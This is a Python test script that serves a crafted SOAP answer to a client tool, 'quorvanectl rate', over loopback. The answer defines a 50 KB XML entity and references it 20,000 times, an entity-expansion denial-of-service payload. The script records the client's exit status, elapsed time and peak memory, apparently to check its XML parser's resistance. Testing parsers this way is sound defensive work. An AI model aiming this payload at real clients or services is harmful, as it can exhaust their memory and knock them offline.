#!/usr/bin/env python3
"""Times one `quorvanectl rate` against a loopback service whose answer defines one 50 KB entity and
references it 20,000 times (a 110 KB answer). Prints the client's exit status, elapsed time and peak
memory as /usr/bin/time -v reports them.

usage: entity_answer.py QUORVANECTL WSDL_FILE
"""
import http.server
import re
import subprocess
import sys
import threading

ENTITY = "1" * 50_000
ANSWER = (
    '<?xml version="1.0" encoding="utf-8"?>'
    '<!DOCTYPE soap:Envelope [<!ENTITY e "' + ENTITY + '">]>'
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
    '<ConversionRateResponse xmlns="http://www.webserviceX.NET/"><ConversionRateResult>'
    + "&e;" * 20_000 +
    "</ConversionRateResult></ConversionRateResponse></soap:Body></soap:Envelope>"
).encode()


def main():
    quorvanectl, wsdl_file = sys.argv[1], sys.argv[2]
    with open(wsdl_file, encoding="utf-8") as f:
        template = f.read()

    class Handler(http.server.BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def reply(self, body):
            self.send_response(200)
            self.send_header("Content-Type", "text/xml; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self):
            endpoint = "http://127.0.0.1:%d/CurrencyConvertor.asmx" % self.server.server_port
            self.reply(re.sub(r'location="http://www\.webservicex\.net/CurrencyConvertor\.asmx"',
                              'location="%s"' % endpoint, template).encode())

        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length", "0")))
            self.reply(ANSWER)

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    wsdl = "http://127.0.0.1:%d/CurrencyConvertor.asmx?wsdl" % server.server_port
    run = subprocess.run(["/usr/bin/time", "-v", quorvanectl, "rate", "USD", "JPY", "--wsdl", wsdl],
                         capture_output=True, text=True, errors="replace")
    server.shutdown()
    print("answer bytes: %d" % len(ANSWER))
    print("exit status: %d" % run.returncode)
    print("stdout: " + run.stdout.strip())
    for line in run.stderr.splitlines():
        if line.startswith("quorvanectl") or line.startswith("terminate") or "what()" in line:
            print("stderr: " + line.strip()[:200])
        if "Elapsed (wall clock)" in line or "Maximum resident set size" in line:
            print(line.strip())


if __name__ == "__main__":
    main()
